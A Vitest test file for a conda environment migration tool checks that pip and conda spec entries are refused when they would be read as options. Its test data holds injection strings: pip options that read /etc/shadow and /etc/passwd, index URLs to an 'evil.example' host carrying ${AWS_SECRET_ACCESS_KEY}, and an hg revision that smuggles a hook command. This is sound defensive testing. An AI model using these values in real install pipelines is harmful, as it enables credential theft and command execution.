import {describe, expect, it} from 'vitest'

import {solveArgs} from '../../../../src/conda/argv/solve-args.js'
import {buildEnvSpec} from '../../../../src/domain/spec/build-env-spec.js'
import {readEnvYaml} from '../../../../src/domain/spec/read-env-yaml.js'
import {scanEnvLines} from '../../../../src/domain/spec/scan-env-lines.js'
import {parsePipDep} from '../../../../src/domain/spec/parse-pip-dep.js'
import {planEnv, type PlanEnvInput} from '../../../../src/domain/spec/plan-env.js'
import {serializeSpec} from '../../../../src/domain/spec/serialize-spec.js'
import {BadInputError} from '../../../../src/errors.js'

// Issue 8, point 6: spec entries are data, never options. pip reads the requirements file replicate writes line by
// line and takes any word starting with `-` as an option (`-cmd` is `-c md`); conda reads `-c --override` as an
// option. Only the pip options a real export carries pass, named in the plan; anything else is refused with
// file:line, and the env is refused before anything runs.

const SETTINGS: PlanEnvInput['settings'] = {channels: [], channelMap: {}, noarchPackages: [], minPython: '3.6'}
const FILE = 'env_specs/hlink.yml'

const plan = (text: string, extra: Partial<PlanEnvInput> = {}) =>
  planEnv({name: 'hlink', text, file: FILE, source: 'export', settings: SETTINGS, ...extra})

/** A spec whose pip section holds `entry` (YAML double-quoted, so escapes like \n reach the parser), at line 6. */
const withPip = (entry: string): string =>
  [
    'name: hlink',
    'channels:',
    '  - conda-forge',
    'dependencies:',
    '  - python=3.11',
    '  - pip:',
    `    - ${entry}`,
    '',
  ].join('\n')

describe('pip entries that pip would read as options or as more than one entry are refused', () => {
  it.each([
    ['-cmd', /pip would read it as `-c md`/],
    ['-rrequirements.txt', /pip would read it as `-r requirements.txt`/],
    ['-', /not a pip option condamig passes/],
    ['--no-index', /not a pip option condamig passes/],
    ['--global-option=--no-user-cfg', /not a pip option condamig passes/],
    ['--config-settings=--build-option=--x', /not a pip option condamig passes/],
    ['--require-hashes', /not a pip option condamig passes/],
    ['--pre -r /etc/shadow', /--pre takes no value/],
    ['--index-url https://pypi.example.org/simple -r /etc/shadow', /takes one value/],
    ['--index-url', /--index-url needs a value/],
    ['--extra-index-url=--pre', /starts with `-`/],
    ['numpy --global-option=build_ext', /`--global-option=build_ext` as an option/],
    ['numpy==1.26 --hash=sha256:0123', /`--hash=sha256:0123` as an option/],
    ['https://example.org/x-1.0.tar.gz --install-option=--prefix=/tmp', /as an option/],
    ['-e git+https://example.org/x.git#egg=x --install-option=--user', /as an option/],
    ['numpy\n-r /etc/passwd', /line break/],
    ['numpy\r--index-url=http://evil.example', /line break/],
    ['numpy\u000b-cmd', /line break/],
    ['numpy\u2028-cmd', /line break/],
    ['numpy\u0085-cmd', /line break/],
    ['numpy \\', /join the next entry/],
    ['--extra-index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple', /replace \$\{AWS_SECRET_ACCESS_KEY\}/],
    ['pkg @ https://evil.example/${HOME}/pkg.whl', /replace \$\{HOME\}/],
    [
      'hg+https://hg.example.org/repo@--config=hooks.pre-clone=touch+/tmp/pwned#egg=repo',
      /revision .* starts with `-`/,
    ],
    ['-e git+https://example.org/x.git@-uevil#egg=x', /revision .* starts with `-`/],
  ])('%j', (raw, why) => {
    const dep = parsePipDep(raw)
    expect(dep.refused).toMatch(why)
  })

  it.each([
    ['--index-url https://pypi.example.org/simple', '--index-url'],
    ['--index-url=https://pypi.example.org/simple', '--index-url'],
    ['-i https://pypi.example.org/simple', '--index-url'],
    ['--extra-index-url https://pypi.org/simple', '--extra-index-url'],
    ['--find-links https://data.dgl.ai/wheels/torch-2.2/cu121/repo.html', '--find-links'],
    ['-f /srv/wheels', '--find-links'],
    ['--trusted-host pypi.example.org', '--trusted-host'],
    ['--pre', '--pre'],
  ])('passes %j as %s', (raw, option) => {
    const dep = parsePipDep(raw)
    expect(dep).toMatchObject({kind: 'option', option})
    expect(dep.refused).toBeUndefined()
  })

  it('leaves ordinary entries alone: markers, extras, URLs, VCS refs', () => {
    for (const raw of [
      'numpy==1.26.4',
      'requests[socks]>=2.31 ; python_version >= "3.8"',
      'en-core-web-sm @ https://example.org/en_core_web_sm-3.0.0-py3-none-any.whl',
      'git+https://github.com/org/repo.git@v1.0#egg=repo',
      'hlink-private @ git+file:///srv/git/hlink-private@v0.2.0',
      'x-y_z.w==1.0-1',
    ]) {
      expect(parsePipDep(raw).refused, raw).toBeUndefined()
    }
  })
})

describe('planEnv refuses a spec holding an entry that is not data, naming file:line', () => {
  it('refuses `-cmd` under pip: it is not written for pip, the env is refused', () => {
    const result = plan(withPip('-cmd'))
    expect(result.refusal?.message).toMatch(/^env_specs\/hlink\.yml:7: -cmd: .*`-c md`/)
    expect(result.refusal?.packages).toEqual(['-cmd'])
    expect(result.refusal?.remediation).toMatch(/env_specs\/overrides\/hlink\.yml/)
    expect(result.steps.some((step) => step.kind === 'pip')).toBe(false)
    expect(serializeSpec(result.spec)).not.toContain('-cmd')
  })

  it('refuses a pip entry with a line break (YAML escapes), naming its line', () => {
    const result = plan(withPip('"numpy\\n-r /etc/passwd"'))
    expect(result.refusal?.message).toMatch(/^env_specs\/hlink\.yml:7: numpy\n-r \/etc\/passwd: holds a line break/)
  })

  it('refuses a channel named `--override` and a conda spec starting with `-`, every one with its line', () => {
    const text = [
      'name: hlink',
      'channels:',
      '  - --override',
      '  - conda-forge',
      '  - -c',
      'dependencies:',
      '  - python=3.11',
      '  - --force-reinstall',
      "  - '-cnumpy'",
      '',
    ].join('\n')
    const result = plan(text)
    expect(result.refusal?.message.split('; ')).toEqual([
      'env_specs/hlink.yml:3: --override: starts with `-`: conda would read it as an option, not as a channel',
      'env_specs/hlink.yml:5: -c: starts with `-`: conda would read it as an option, not as a channel',
      'env_specs/hlink.yml:8: --force-reinstall: starts with `-`: conda would read it as an option, not as a package spec',
      'env_specs/hlink.yml:9: -cnumpy: starts with `-`: conda would read it as an option, not as a package spec',
    ])
    const [create] = result.steps
    expect(create).toEqual({kind: 'create', specs: ['python=3.11'], channels: ['conda-forge']})
  })

  it('refuses the same in an override (used as written, but still checked)', () => {
    const result = plan(withPip('--no-index'), {source: 'override', file: 'env_specs/overrides/hlink.yml'})
    expect(result.refusal?.message).toMatch(/^env_specs\/overrides\/hlink\.yml:7: --no-index: not a pip option/)
  })

  it('reads the same file the same way through the fast scanner and the YAML library', () => {
    const text = `${withPip('-cmd')}  - --force\n`.replace('channels:\n  - conda-forge', 'channels: [--override]')
    const library = readEnvYaml(text)
    if (library.kind !== 'env') throw new Error('not read')
    const fast = scanEnvLines(text, 'tolerant')
    if (fast === undefined) throw new Error('not scanned')
    expect(buildEnvSpec(library.file, FILE).refused?.map((entry) => entry.where + ' ' + entry.text)).toEqual([
      'env_specs/hlink.yml:2 --override',
      'env_specs/hlink.yml:6 -cmd',
      'env_specs/hlink.yml:7 --force',
    ])
    expect(buildEnvSpec(fast, FILE).refused).toEqual(buildEnvSpec(library.file, FILE).refused)
  })

  it('refuses channels from condamig.ini and channel_map that start with `-`', () => {
    const fromChannels = plan(withPip('six'), {settings: {...SETTINGS, channels: ['--override-channels']}})
    expect(fromChannels.refusal?.message).toMatch(
      /^condamig\.ini \(channels, channel_map, noarch_packages\): --override-channels: /,
    )
    const fromMap = plan(withPip('six'), {settings: {...SETTINGS, channelMap: {'conda-forge': '--offline'}}})
    expect(fromMap.refusal?.packages).toEqual(['--offline'])
  })

  it('refuses a recovered pip origin whose revision would be read as an option (hg --config)', () => {
    const result = plan(withPip('repo==1.0'), {
      pipOrigins: [
        {name: 'repo', url: 'https://hg.example.org/repo', vcs: 'hg', commit: '--config=hooks.x=y', kind: 'vcs'},
      ],
    })
    expect(result.refusal?.message).toMatch(
      /hlink\.meta\.json\): hg\+https:\/\/hg\.example\.org\/repo@--config=hooks\.x=y#egg=repo: /,
    )
  })

  it('passes the allowed pip options, naming each in the plan with its line', () => {
    const text = [
      'name: hlink',
      'dependencies:',
      '  - python=3.11',
      '  - pip:',
      '    - --index-url https://download.pytorch.org/whl/cu121',
      '    - --extra-index-url https://pypi.org/simple',
      '    - -f /srv/wheels',
      '    - --trusted-host pypi.example.org',
      '    - --pre',
      '    - torch==2.2.0',
      '',
    ].join('\n')
    const result = plan(text)
    expect(result.refusal).toBeUndefined()
    expect(result.pipOptions).toEqual([
      {
        option: '--index-url',
        value: 'https://download.pytorch.org/whl/cu121',
        raw: '--index-url https://download.pytorch.org/whl/cu121',
        line: 5,
      },
      {
        option: '--extra-index-url',
        value: 'https://pypi.org/simple',
        raw: '--extra-index-url https://pypi.org/simple',
        line: 6,
      },
      {option: '--find-links', value: '/srv/wheels', raw: '-f /srv/wheels', line: 7},
      {option: '--trusted-host', value: 'pypi.example.org', raw: '--trusted-host pypi.example.org', line: 8},
      {option: '--pre', raw: '--pre', line: 9},
    ])
    const pip = result.steps.find((step) => step.kind === 'pip')
    expect(pip?.kind === 'pip' && pip.requirements.map((dep) => dep.raw)).toHaveLength(6)
  })
})

describe('conda argv refuses a channel conda would read as an option', () => {
  it('throws before anything runs', () => {
    expect(() => solveArgs({channels: ['--override']})).toThrow(BadInputError)
    expect(() => solveArgs({channels: ['  ']})).toThrow(/not a channel/)
    expect(solveArgs({channels: ['conda-forge']})).toEqual(['-c', 'conda-forge'])
  })
})
